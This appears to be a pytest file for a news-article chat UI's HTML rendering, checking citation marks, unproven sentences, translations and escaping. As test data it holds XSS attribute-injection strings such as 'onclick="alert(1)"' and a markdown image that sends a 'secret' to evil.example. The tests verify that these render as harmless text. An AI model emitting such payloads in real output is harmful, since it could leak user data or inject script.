"""What the chat shows: everything as text, marks as the only links."""

from __future__ import annotations

import html
import re
from dataclasses import replace

import pytest
from markupsafe import escape
from ui_answers import (
    EVIL,
    HOSTILE,
    MERZ,
    QUOTES,
    TARIFF,
    TARIFF_QUOTES,
    answer_of,
    german_answer,
    hidden_answer,
    hostile_answer,
    merz_answer,
    missing_answer,
    moon_answer,
    quotes_answer,
    stopped_answer,
    tariff_answer,
    unproven_answer,
)

from assistant.answer import Found, Offer
from ui.page.rendering.articles import LISTED, articles_html
from ui.page.rendering.cards import article_link, checksum
from ui.page.rendering.messages import (
    found_html,
    message_html,
    messages,
    question_html,
    welcome,
)
from ui.page.rendering.reader import Reader
from ui.page.rendering.turns import ChatTurn, Draft
from vectorstore.article import Article
from vectorstore.search.filters import Filters

TAG = re.compile(r"<(\w+)([^>]*)>")


def shown(answer, language="en", **options) -> str:
    return message_html(ChatTurn(answer.question, "answered", answer), Reader(language), **options)


def tags(markup: str) -> set[str]:
    return {name for name, _ in TAG.findall(markup)}


def links(markup: str) -> list[str]:
    return [html.unescape(href) for href in re.findall(r'href="([^"]*)"', markup)]


def test_marks_point_at_the_quote_of_their_number():
    markup = shown(merz_answer("?"))
    marks = re.findall(r'<a class="mark" href="([^"]*)".*?</span>(\d+)</a>', markup)
    for (href, number), quote in zip(marks, QUOTES, strict=True):
        assert int(number) == quote.number
        place = f"#article=merz&start={quote.start}&end={quote.end}"
        assert html.unescape(href) == f"{place}&check={checksum(quote.quote)}"


def test_a_number_without_a_quote_makes_no_mark():
    markup = shown(answer_of("?", (("One.", (1, 9), None),), citations=QUOTES[:1]))
    assert markup.count('class="mark"') == 1


def test_an_unsupported_sentence_is_marked_with_its_reason():
    markup = shown(merz_answer("?"))
    assert '<span class="unproven">He also wants' in markup
    assert "No quote says this." in markup
    assert markup.count('class="unproven"') == 1


def test_the_reason_is_in_the_marks_own_words_and_in_the_answers_language():
    markup = shown(german_answer("?"), "en")
    why = "Das Zitat, das am nächsten kommt, nennt keine 30 Prozent."
    assert f'<span class="unseen">Not proven: <span lang="de">{why}</span></span>' in markup
    assert f'<span class="why" lang="de">{why}</span>' in markup


def test_a_missing_reason_is_given_in_the_pages_language():
    answer = german_answer("?")
    bare = replace(answer.sentences[1], reason=None)
    markup = shown(replace(answer, sentences=(bare,)), "en")
    assert '<span class="why" lang="en">No quote proves this sentence.</span>' in markup


def test_the_question_mark_is_explained_only_where_there_is_one():
    assert "</span> = not proven by the articles</p>" in shown(merz_answer("?"))
    assert "</span> = nicht durch die Artikel belegt</p>" in shown(merz_answer("?"), "de")
    assert 'class="legend"' not in shown(tariff_answer("?"))
    assert 'class="legend"' not in shown(quotes_answer("?"))


def test_a_sentence_without_quotes_counts_as_unproven_even_without_a_reason():
    answer = merz_answer("?")
    bare = replace(answer.sentences[0], citations=())
    markup = shown(replace(answer, sentences=(bare,)), "de")
    assert "Kein Zitat belegt diesen Satz." in markup


def test_text_between_and_after_sentences_is_kept():
    answer = answer_of("?", (("One.", (1,), None), ("Two.", (2,), None)))
    answer = replace(answer, text=answer.text + "\n\nAnd a tail")
    assert "And a tail" in shown(answer)


@pytest.mark.parametrize("language", ["de", "en"])
def test_hostile_texts_become_no_markup(language):
    for answer in (hostile_answer("?"), replace(hostile_answer("?"), kind="quotes")):
        markup = shown(answer, language)
        assert tags(markup) <= {
            "div",
            "p",
            "span",
            "a",
            "ol",
            "li",
            "details",
            "summary",
            "button",
            "strong",
        }
        assert all(link.startswith("#article=evil&") for link in links(markup))
        assert escape(HOSTILE) in markup


def test_attributes_hold_nothing_but_their_own_value():
    odd = replace(EVIL, id='x" onclick="alert(1)', title='a" onmouseover="b')
    citation = replace(QUOTES[0], article=odd)
    answer = replace(merz_answer("?"), citations=(citation,), language='en" onload="x')
    names = {
        name
        for _, attributes in TAG.findall(shown(answer))
        for name in re.findall(r'(\w+)="', re.sub(r'"[^"]*"', '""', attributes))
    }
    assert names <= {"class", "href", "title", "lang", "type", "name"}


def test_an_image_of_the_model_stays_text():
    markup = shown(hostile_answer("?"))
    assert "<img" not in markup
    assert "![x](http://evil.example/steal.png?q=secret)" in markup


def test_a_draft_shows_quotes_without_numbers_before_any_text():
    answer = merz_answer("?")
    found = Found("?", "en", (), answer.citations)
    draft = Draft("?", found)
    markup = found_html(draft, Reader("en"))
    assert markup.count('class="quote"') == 3
    assert 'class="number"' not in markup
    assert "The answer is being written" in message_html(draft, Reader("en"))


def test_the_quotes_of_a_draft_are_a_message_that_stays_the_same_while_it_grows():
    draft = Draft("?", Found("?", "en", (), QUOTES))
    grown = replace(draft, text="Merz demanded")
    (_, before, quotes), (_, after, same) = (
        messages([], Reader("en"), one) for one in (draft, grown)
    )
    assert before != after
    assert quotes == same
    assert len(messages([], Reader("en"), Draft("?"))) == 2


def test_versions_of_a_turn_can_be_looked_at():
    old = ChatTurn("?", "answered", merz_answer("?"))
    draft = old.renewed(old.again())
    assert "version" not in message_html(old, Reader("en"))
    assert "version" not in message_html(draft, Reader("en"))
    new = draft.answered(merz_answer("?"))
    markup = message_html(new, Reader("en"), place=3)
    assert "Version 2 of 2" in markup
    assert 'name="version:3:-1"' in markup
    assert 'name="version:3:1"' not in markup
    former = message_html(new.turned(-1), Reader("de"), last=False, place=3)
    assert "Fassung 1 von 2" in former
    assert 'name="version:3:1"' in former
    assert 'name="version:3:-1"' not in former


def test_more_than_four_quotes_are_folded():
    markup = shown(tariff_answer("?"))
    assert "Show 2 more quotes" in markup
    before, after = markup.split("<details", 1)
    assert (before.count('class="quote"'), after.count('class="quote"')) == (4, 2)
    assert "<details class=" not in shown(replace(tariff_answer("?"), citations=TARIFF_QUOTES[:4]))


def test_quotes_alone_are_named_as_quotes_in_both_languages():
    assert "Die besten Zitate, wörtlich:" in shown(quotes_answer("?"), "de")
    assert "The best quotes, verbatim:" in shown(quotes_answer("?"), "en")


def test_quotes_say_first_why_nothing_is_written():
    markup = shown(unproven_answer("?"))
    assert markup.index("Nothing of the answer") < markup.index("The best quotes, verbatim:")
    assert markup.count('class="number"') == 3


def test_nothing_found_shows_what_is_nearest():
    markup = shown(moon_answer("?"))
    assert "What comes nearest in your articles" in markup
    assert html.escape(TARIFF.title) in markup
    assert 'class="mark"' not in markup


def test_nothing_is_nearest_where_no_quote_is_whatever_was_looked_at():
    markup = shown(missing_answer("?"))
    assert "What comes nearest in your articles" not in markup
    assert html.escape(TARIFF.title) not in markup


def test_the_nearest_quotes_have_no_numbers():
    answer = replace(moon_answer("?"), nearest=(QUOTES[1],))
    markup = shown(answer)
    assert markup.count('class="quote"') == 1
    assert "„Zunächst müsse es einen Waffenstillstand geben.“" in markup
    assert "13 August 2025" in markup
    assert 'class="number"' not in markup


OFFER = (
    '<p class="offer"><span lang="de">Ohne den Filter antwortet 1 Artikel.</span><button '
    'type="button" class="act" name="unfiltered" title="Ask again without filters">Show</button>'
)


def test_what_would_help_has_a_button_that_asks_so():
    filtered = replace(hidden_answer("?"), filters=Filters(sources=("The Ledger",)))
    markup = shown(filtered)
    assert OFFER in markup
    assert ">Zeigen</button>" in shown(filtered, "de")
    undated = replace(filtered, offers=(Offer("dates", 2),))
    assert "Ohne diese Tage antworten 2 Artikel." in shown(undated)
    assert 'name="undated" title="Ask again without these dates">Show<' in shown(undated)


def test_of_an_earlier_answer_what_would_have_helped_is_a_sentence_alone():
    markup = shown(hidden_answer("?"), last=False)
    assert "Ohne den Filter antwortet 1 Artikel." in markup
    assert "unfiltered" not in markup


def translations(markup: str) -> list[str]:
    return re.findall(r'name="translate:(\w+)"', markup)


def test_only_quotes_in_another_language_than_the_answers_can_be_translated():
    assert translations(shown(merz_answer("?"))) == ["en"] * 3
    assert translations(shown(german_answer("?"), "en")) == ["de"]
    assert translations(shown(quotes_answer("?"), "en")) == []
    assert translations(shown(moon_answer("?"))) == ["en"]


def test_a_translation_is_named_by_its_languages():
    assert 'title="German → English, by the language model"' in shown(merz_answer("?"))
    assert 'title="Englisch → Deutsch, durch das Sprachmodell"' in shown(german_answer("?"), "de")


def test_what_no_model_could_translate_has_no_button():
    odd = replace(QUOTES[0], article=replace(MERZ, language='xx" onclick="alert(1)'))
    long = replace(QUOTES[1], quote="Wort " * 400)
    assert translations(shown(replace(merz_answer("?"), citations=(odd, long)))) == []
    assert translations(shown(replace(merz_answer("?"), language="tlh"))) == []


def test_quotes_of_a_draft_cannot_be_translated():
    found = Found("?", "en", (), QUOTES)
    assert translations(message_html(Draft("?", found), Reader("en"))) == []


def test_what_is_not_checked_says_so():
    found = Found("?", "en", (), QUOTES)
    draft = Draft("?", found, "Merz demanded")
    assert "Being written, not checked yet" in message_html(draft, Reader("en"))
    assert "Wird geschrieben, noch nicht geprüft" in message_html(draft, Reader("de"))


def test_what_was_written_until_a_stop_is_shown_only_if_it_was_checked():
    draft = Draft("?", Found("?", "en", (), QUOTES), "Merz demanded")
    assert "Merz demanded" not in message_html(draft.stopped(), Reader("en"))
    checked = draft.answered(stopped_answer(merz_answer("?"), "Merz" * 20))
    assert 'class="mark"' in message_html(checked, Reader("en"))


def test_an_answer_that_is_lost_does_not_say_that_somebody_stopped_it():
    lost = replace(Draft("?").pending("ab"), state="lost")
    markup = message_html(lost, Reader("en"))
    assert "the program ended before it was whole, or it was fetched too late." in markup
    assert "Stopped" not in markup
    assert 'name="again"' in markup


def test_only_the_last_answer_can_be_asked_again():
    turns = [ChatTurn("?", "answered", merz_answer("?"))] * 2
    first, last = (m["content"] for m in messages(turns, Reader("en")) if m["role"] == "assistant")
    assert 'name="again"' not in first
    assert 'name="again"' in last


def test_a_question_is_shown_as_typed():
    assert question_html("<b>1 & 2</b>", Reader("en")) == (
        '<div class="question">&lt;b&gt;1 &amp; 2&lt;/b&gt;</div>'
    )


def test_an_article_id_is_quoted_in_its_link():
    assert article_link("a&b #1", 2, 3) == ("#article=a%26b+%231&start=2&end=3&check=2166136261")


def test_bold_is_the_only_markdown_and_is_escaped_first():
    markup = shown(answer_of("?", (("A **bold <b>word</b>** here.", (1,), None),)))
    assert "<strong>bold &lt;b&gt;word&lt;/b&gt;</strong>" in markup


def test_the_list_of_articles_is_capped_and_says_so():
    many = [replace(MERZ, id=str(n)) for n in range(LISTED + 3)]
    markup = articles_html(many, "", Reader("en"))
    assert markup.count("<li>") == LISTED
    assert "and 3 more" in markup


def test_the_filter_looks_at_title_source_author_date_and_language():
    found = [
        articles_html([MERZ, TARIFF], needle, Reader("en"))
        for needle in ("merz FRIEDEN", "tagesblatt", "2025-08-13", "anna beispiel")
    ]
    assert all("Bedingungen" in markup and "tariff" not in markup for markup in found)
    assert "No article matches." in articles_html([MERZ], "zebra", Reader("en"))


def test_an_empty_index_says_how_to_add_articles():
    assert "beleg serve" in welcome(0, Reader("de"))
    assert "beleg serve" not in welcome(1, Reader("de"))


def test_articles_that_are_nearly_the_same_say_so_in_the_list():
    names = ["a", "b", "c", "d"]
    articles = [Article(name, f"Title {name}", "Text.", "en", f"/{name}") for name in names]
    listed = articles_html(articles, "", Reader("en"), [["a", "b", "c"]])
    assert listed.count("2 other articles are nearly the same.") == 3
    assert "Ein anderer Artikel ist fast gleich." in articles_html(
        articles, "", Reader("de"), [["a", "d"]]
    )
    assert "nearly the same" not in articles_html(articles, "", Reader("en"))
